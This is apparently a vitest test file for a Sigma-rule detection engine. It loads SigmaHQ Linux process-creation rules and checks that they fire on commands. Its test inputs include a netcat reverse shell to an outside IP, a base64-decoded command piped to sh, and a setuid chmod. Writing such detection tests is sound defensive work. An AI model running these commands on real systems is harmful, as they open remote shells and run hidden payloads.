import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { createEngine } from '../../detectors/index.js';
import { withoutImagePrefilter } from '../../detectors/sigma/sigma.js';
import { sharedDir } from '../helpers/paths.js';
import { record, truthSessions } from './helpers.js';

const shared = sharedDir();
const sigmaDir = shared ? join(shared, 'data/sigma/linux/process_creation') : null;

function sigmaRule(detection: string, extra = ''): { name: string; text: string } {
  return {
    name: 'unit.yml',
    text: `title: Unit rule
id: 11111111-2222-3333-4444-555555555555
level: high
tags: [attack.privilege-escalation, attack.t1548.003]
logsource:
    product: linux
    category: process_creation
detection:
${detection}
${extra}`,
  };
}

function fires(rule: { name: string; text: string }, command: string): boolean {
  const { engine, problems } = createEngine({ builtin: false, builtinIocs: false, sigmaTexts: [rule] });
  expect(problems).toEqual([]);
  return engine.session({ sessionId: 's' }).analyze(record(command)).length > 0;
}

describe.skipIf(!sigmaDir)('SigmaHQ Linux process_creation rules', () => {
  const texts = readdirSync(sigmaDir!)
    .filter((f) => f.endsWith('.yml'))
    .sort()
    .map((f) => ({ name: f, text: readFileSync(join(sigmaDir!, f), 'utf8') }));

  it('loads them and reports each one not loaded with its reason', () => {
    expect(texts).toHaveLength(122);
    const { engine, problems } = createEngine({ builtin: false, sigmaTexts: texts });
    const loaded = engine.rules.length;
    console.info(
      `Sigma: ${loaded} of ${texts.length} loaded; not loaded: ${problems.map((p) => `${p.source} (${p.message})`).join('; ')}`,
    );
    expect(loaded + new Set(problems.map((p) => p.source)).size).toBe(texts.length);
    expect(loaded).toBeGreaterThanOrEqual(115);
    for (const p of problems) expect(p.message.length).toBeGreaterThan(10);
  });

  it('runs the loaded rules over every fixture command without errors', () => {
    const { engine } = createEngine({ builtin: false, sigmaTexts: texts });
    let commands = 0;
    const fired = new Set<string>();
    for (const { truth } of truthSessions()) {
      const session = engine.session({ sessionId: truth.sessionId });
      truth.commands.forEach((c, i) => {
        commands++;
        for (const d of session.analyze(record(c.command, i + 1, { sessionId: truth.sessionId })))
          fired.add(`${d.ruleId} ${d.title}`);
      });
    }
    console.info(`Sigma over ${commands} fixture commands fired: ${[...fired].join('; ') || 'nothing'}`);
    expect(commands).toBeGreaterThan(30);
  });

  it('skips a rule for commands of programs its Image values exclude, and finds exactly what evaluating it finds', () => {
    // commands made of each rule's own programs and values, so that most rules fire on some of them
    const commands: string[] = [];
    for (const { text } of texts) {
      const programs = new Set<string>();
      const values: string[] = [];
      const collect = (node: unknown, key = ''): void => {
        if (Array.isArray(node)) for (const n of node) collect(n, key);
        else if (node && typeof node === 'object')
          for (const [k, v] of Object.entries(node as Record<string, unknown>)) collect(v, k);
        else if (typeof node === 'string' && key.startsWith('Image')) programs.add(node.replace(/^.*\//, ''));
        else if (typeof node === 'string' && key.startsWith('CommandLine')) values.push(node.replace(/[*?]/g, ''));
      };
      collect((parse(text) as { detection: unknown }).detection);
      for (const p of programs.size > 0 ? programs : ['sh']) {
        commands.push(`${p} ${values.join(' ')}`, `sudo ${p} ${values.slice(0, 2).join(' ')}`);
        commands.push(`/opt/x/${p.toUpperCase()} ${values[0] ?? ''}`, `echo x | ${p} ${values.at(-1) ?? ''}`);
      }
    }
    for (const { truth } of truthSessions()) commands.push(...truth.commands.map((c) => c.command));
    const filtered = createEngine({ builtin: false, sigmaTexts: texts }).engine;
    const reference = withoutImagePrefilter(() => createEngine({ builtin: false, sigmaTexts: texts })).engine;
    const detections = (engine: typeof filtered) =>
      commands.map((c, i) =>
        engine
          .session({ sessionId: `s${i}` })
          .analyze(record(c, 1))
          .map((d) => d.ruleId),
      );
    const got = detections(filtered);
    expect(got).toEqual(detections(reference));
    expect(new Set(got.flat()).size).toBeGreaterThan(60); // the commands reach most rules
  });

  it('raises the SigmaHQ rules on what they describe', () => {
    const { engine } = createEngine({ builtin: false, sigmaTexts: texts });
    const titles = (cmd: string) =>
      engine
        .session({ sessionId: 's' })
        .analyze(record(cmd))
        .map((d) => d.title);
    expect(titles('echo aWQ= | base64 -d | sh')).toContain('Linux Base64 Encoded Pipe to Shell');
    expect(titles('nc -e /bin/sh 198.51.100.3 4444')).toContain('Potential Netcat Reverse Shell Execution');
  });
});

describe('Sigma features', () => {
  it('modifiers contains, startswith, endswith, all and wildcards, case-insensitively', () => {
    const r = sigmaRule(`    selection:
        Image|endswith: '/curl'
        CommandLine|contains|all: ['-o', 'http']
        CommandLine|startswith: 'CURL'
    filter:
        CommandLine|contains: 'local*host'
    condition: selection and not filter`);
    expect(fires(r, 'curl -o x http://a.example/')).toBe(true);
    expect(fires(r, 'curl -o x http://localhost/')).toBe(false);
    expect(fires(r, 'curl http://a.example/')).toBe(false);
    expect(fires(r, 'wget -o x http://a.example/')).toBe(false);
  });

  it('re, cased, windash, base64offset and 1 of / all of', () => {
    const r = sigmaRule(`    selection_re:
        CommandLine|re: 'chmod\\s+[0-7]?4[0-7]{3}'
    selection_cased:
        CommandLine|cased|contains: 'SECRET'
    selection_dash:
        CommandLine|windash|contains: ' -enc '
    selection_b64:
        CommandLine|base64offset|contains: 'sudo su'
    condition: 1 of selection_*`);
    expect(fires(r, 'chmod 4755 /tmp/x')).toBe(true);
    expect(fires(r, 'echo SECRET')).toBe(true);
    expect(fires(r, 'echo secret')).toBe(false);
    expect(fires(r, 'tool /enc x')).toBe(true);
    expect(fires(r, `echo ${Buffer.from('run: sudo su now').toString('base64')}`)).toBe(true);
    expect(fires(r, 'ls')).toBe(false);
  });

  it('sees the wrapper and the wrapped process as separate events, with User', () => {
    const r = sigmaRule(`    selection:
        ParentImage|endswith: '/sudo'
        Image|endswith: '/cat'
        User: root
    condition: selection`);
    expect(fires(r, 'sudo cat /etc/hosts')).toBe(true);
    expect(fires(r, 'cat /etc/hosts')).toBe(false);
  });

  it('reports unsupported rules with a reason', () => {
    const { problems } = createEngine({
      builtin: false,
      sigmaTexts: [
        sigmaRule(`    selection:\n        LogonId: 0\n    condition: selection`),
        sigmaRule(`    selection:\n        CommandLine|contains: x\n    condition: selection | count() > 5`),
        sigmaRule(`    selection:\n        CommandLine|re: '(a+)+$'\n    condition: selection`),
        sigmaRule(`    selection:\n        CommandLine|expand: x\n    condition: selection`),
        {
          name: 'win.yml',
          text: 'title: x\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n    s:\n        Image: x\n    condition: s\n',
        },
      ],
    });
    expect(problems.map((p) => p.message)).toEqual([
      expect.stringContaining('field LogonId'),
      expect.stringContaining('aggregation'),
      expect.stringContaining('nested quantifiers'),
      expect.stringContaining('modifier expand'),
      expect.stringContaining('not linux/process_creation'),
    ]);
  });
});
